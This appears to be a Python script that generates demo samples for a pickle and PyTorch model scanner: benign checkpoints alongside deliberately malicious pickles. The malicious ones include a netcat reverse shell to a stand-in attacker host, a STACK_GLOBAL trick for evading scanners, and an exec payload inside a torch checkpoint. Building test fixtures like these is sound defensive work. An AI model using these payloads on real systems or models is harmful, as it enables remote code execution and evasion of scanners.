#!/usr/bin/env python3
"""Writes the small bundled samples in examples/ that `make demo` scans.

Run with Debian's interpreter (it has python3-torch):
    /usr/bin/python3 tests/gen/gen_examples.py

Hostile samples are assembled byte by byte: nothing here imports, calls or
unpickles the callables the payloads name, and nothing is ever loaded.
"""
import io
import os
import struct
import zipfile

HERE = os.path.dirname(os.path.abspath(__file__))
OUT = os.path.join(HERE, "..", "..", "examples")


def w(name, data):
    path = os.path.join(OUT, name)
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "wb") as f:
        f.write(data)
    print(f"{name}: {len(data)} bytes")


def binunicode(s):
    b = s.encode()
    return b"X" + struct.pack("<I", len(b)) + b


def reduce_call(module, name, arg, proto=2):
    """PROTO, GLOBAL module name, (arg,) REDUCE, STOP."""
    return (b"\x80" + bytes([proto]) + b"c" + module.encode() + b"\n" + name.encode() + b"\n"
            + binunicode(arg) + b"\x85R.")


def stack_global_call(module, name, arg):
    """Protocol 4: STACK_GLOBAL with a dotted name, as in picklescan bypasses."""
    body = (b"\x8c" + bytes([len(module)]) + module.encode() + b"\x94"
            + b"\x8c" + bytes([len(name)]) + name.encode() + b"\x94"
            + b"\x93\x94" + binunicode(arg) + b"\x85\x94R\x94.")
    return b"\x80\x04\x95" + struct.pack("<Q", len(body)) + body


def torch_zip_with(pickle_bytes, root="archive"):
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as z:
        z.writestr(f"{root}/data.pkl", pickle_bytes)
        z.writestr(f"{root}/version", b"3\n")
    return buf.getvalue()


import torch  # Debian python3-torch: only to write real benign checkpoints


class TinyNet(torch.nn.Module):
    def __init__(self):
        super().__init__()
        self.fc = torch.nn.Linear(4, 2)

    def forward(self, x):
        return self.fc(x)


def main():
    torch.manual_seed(0)
    net = TinyNet()
    buf = io.BytesIO()
    torch.save(net.state_dict(), buf)
    w("benign/tiny_state_dict.pt", buf.getvalue())

    # Whole-model save: pickles a reference to this script's class
    # (__main__.TinyNet): a warning (MEDIUM), not a failure.
    buf = io.BytesIO()
    torch.save(net, buf)
    w("suspicious/whole_model.pt", buf.getvalue())

    w("malicious/reverse_shell.pkl",
      reduce_call("posix", "system", "sh -c 'nc attacker.invalid 4444 -e /bin/sh'"))
    w("malicious/dotted_bypass.pkl", stack_global_call("torch", "os.system", "id"))
    w("malicious/checkpoint_with_payload.pt",
      torch_zip_with(reduce_call("builtins", "exec", "import os; os.system('id')")))
    w("malicious/unknown_callable.pkl", reduce_call("mypackage.hooks", "on_load", "x"))


if __name__ == "__main__":
    main()
